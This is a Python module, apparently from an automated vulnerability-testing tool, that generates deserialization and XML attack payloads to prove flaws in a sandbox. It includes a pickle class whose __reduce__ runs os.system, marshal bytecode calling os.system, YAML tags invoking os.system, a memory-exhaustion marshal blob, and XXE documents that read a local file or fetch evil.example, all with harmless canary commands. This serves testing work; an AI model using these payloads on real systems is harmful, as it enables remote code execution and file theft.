"""Bytes and texts that become objects: pickles, YAML, XML with entities."""

import base64
import marshal
import os
import pickle
import re

import prove_world
from prove_families import Effect, Family, Marked, Payload


# For marshal: a list that announces two thousand million items.
_VAST = b'[\xff\xff\xff\x7f'


class _Runs:
    """Unpickled, it is the result of a call."""

    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


class Carried(Marked):
    """A payload that comes as bytes, as text of them, or in a file."""

    moved = True
    shrinks = False
    preferred = frozenset({'bytes', 'bytesfile', 'socket', 'filename', 'path', 'text'})
    name = 'incoming.bin'

    def prepare(self):
        world = self.hunt.world
        world.literals(self.hunt.survey, self.moved)
        self.folder = world.folder(os.path.join(world.root, 'incoming'))
        for story, data in self.contents():
            self.place(story, data)

    def contents(self):
        raise NotImplementedError

    def place(self, story, data):
        world = self.hunt.world
        for folder in [self.folder, world.app, *world.bases[:6]]:
            for suffix in ('', *world.suffixes):
                world.write(os.path.join(folder, f'{story}{suffix}'), data)

    def payloads(self, site):
        for story, data in self.contents():
            if site.role in ('bytes', 'bytesfile', 'socket'):
                yield Payload(self.shown(story, data), data=data)
                yield Payload(f'base64 of {self.shown(story, data)}', data=base64.b64encode(data))
                continue
            if site.kind == 'request' and site.name.endswith(('.content', 'request.data')):
                yield (
                    Payload(self.shown(story, data), data=data)
                    if site.name.endswith('.content')
                    else Payload(data.decode('latin-1'))
                )
            for text in self.texts(data):
                yield Payload(text)
            for name in (story, os.path.join(self.folder, story)):
                kind = 'path' if site.role == 'path' else 'text'
                more = {} if site.kind != 'parameter' else {'spec': {kind: name}}
                yield Payload(
                    name if site.kind != 'parameter' else f'{story}, a file of {self.shown(story, data)}', **more
                )

    def shown(self, _story, data):
        return self.hunt.reveal(repr(data))[:200]

    def texts(self, data):
        yield data.decode('latin-1')

    def judge(self, _site, _payload, seen):
        return self.effect('reading the value ran a command') if self.is_marked(seen) else None


class Pickle(Carried):
    def contents(self):
        command = self.hunt.disguise('echo $((6*7))>pwned')
        yield 'evil', pickle.dumps(_Runs(command), 0)
        yield 'evil4', pickle.dumps(_Runs(command), 4)
        yield 'vast.marshal', _VAST
        yield 'evil.marshal', marshal.dumps(compile(f'__import__("os").system({command!r})', 'evil', 'exec'))

    def texts(self, data):
        yield base64.b64encode(data).decode()
        yield base64.urlsafe_b64encode(data).decode()
        yield data.hex()
        yield data.decode('latin-1')

    def replay(self, text):
        return Payload(text)

    def judge(self, site, payload, seen):
        found = Carried.judge(self, site, payload, seen)
        if found is None and payload is not None and seen.text('error').startswith('MemoryError'):
            return Effect('proven', 'reading a few bytes makes it ask for more memory than there is')
        return found

    def payloads(self, site):
        yield from Carried.payloads(self, site)
        if site.role in ('text', 'filename', 'path'):
            shelf = self.shelf()
            yield Payload('a shelf whose value is a pickle that runs a command', spec={'text': shelf})

    def shelf(self):
        import dbm.dumb

        path = os.path.join(self.folder, 'shelf')
        with dbm.dumb.open(path, 'n') as file:
            data = pickle.dumps(_Runs(self.hunt.disguise('echo $((6*7))>pwned')), 0)
            for key in ('harmless', '7', 'notes.txt', *self.hunt.plan.keys):
                file[key] = data
        return path


class Yaml(Carried):
    def contents(self):
        command = self.hunt.disguise('echo $((6*7))>pwned')
        yield 'evil.yaml', f'!!python/object/apply:os.system ["{command}"]'.encode()
        yield 'evil.yml', f'a: !!python/object/new:os.system ["{command}"]\n'.encode()

    def shown(self, _story, data):
        return self.hunt.reveal(data.decode())


class Xxe(Family):
    connects = True
    moved = True
    shrinks = False
    preferred = frozenset({'bytes', 'bytesfile', 'textfile', 'filename', 'path', 'text'})

    def prepare(self):
        world = self.hunt.world
        world.literals(self.hunt.survey, self.moved)
        self.folder = world.folder(os.path.join(world.root, 'incoming'))
        self.canary = os.path.join(world.root, 'outside', 'secret.txt')
        world.canaries[self.canary] = prove_world.draw()
        world.file(self.canary, world.canaries[self.canary])
        for name, text in self.documents().items():
            for folder in (self.folder, world.app):
                world.write(os.path.join(folder, name), text)

    def documents(self):
        names = [one for one in self.hunt.survey.get('words', []) if re.fullmatch(r'[A-Za-z_]\w{1,20}', one)][:6] or [
            'item'
        ]
        inner = ''.join(f'<{one}>&leak;</{one}>' for one in names)
        plain = ''.join(f'<{one}>harmless</{one}>' for one in names)
        head = '<?xml version="1.0"?><!DOCTYPE list [<!ENTITY leak SYSTEM "{}">]>'
        return {
            'plain.xml': f'<?xml version="1.0"?><list>{plain}</list>',
            'evil.xml': f'{head.format(f"file://{self.canary}")}<list>{inner}&leak;</list>',
            'evil2.xml': f'{head.format(self.canary)}<list>{inner}</list>',
            'evil3.xml': f'{head.format(f"http://{self.hunt.host}/")}<list>{inner}</list>',
        }

    def payloads(self, site):
        for name, text in self.documents().items():
            if name != 'plain.xml':
                yield self.made(site, name, text)
                if site.role in ('text', 'filename') and site.kind == 'parameter':
                    yield Payload(text, spec={'text': os.path.join(self.folder, name)})

    def made(self, site, name, text):
        if site.role == 'filename' and site.kind == 'parameter':
            return Payload(text, spec={'text': os.path.join(self.folder, name)})
        if site.role == 'path':
            return Payload(text, spec={'path': os.path.join(self.folder, name)})
        return Payload(
            text, data=text.encode() if site.role in ('bytes', 'bytesfile', 'socket') or site.name.endswith('.content') else None
        )

    def controls(self, site, _payload):
        return [None, self.made(site, 'plain.xml', self.documents()['plain.xml'])]

    def judge(self, _site, _payload, seen):
        if self.hunt.world.canaries[self.canary] in seen.said:
            return Effect('proven', f'the parser read a file: {self.hunt.world.shown(self.canary)}', file=self.canary)
        if any(one['host'] == self.hunt.host for one in seen.asked):
            return Effect('proven', 'the parser fetched http://evil.example/ for an entity')
        return None
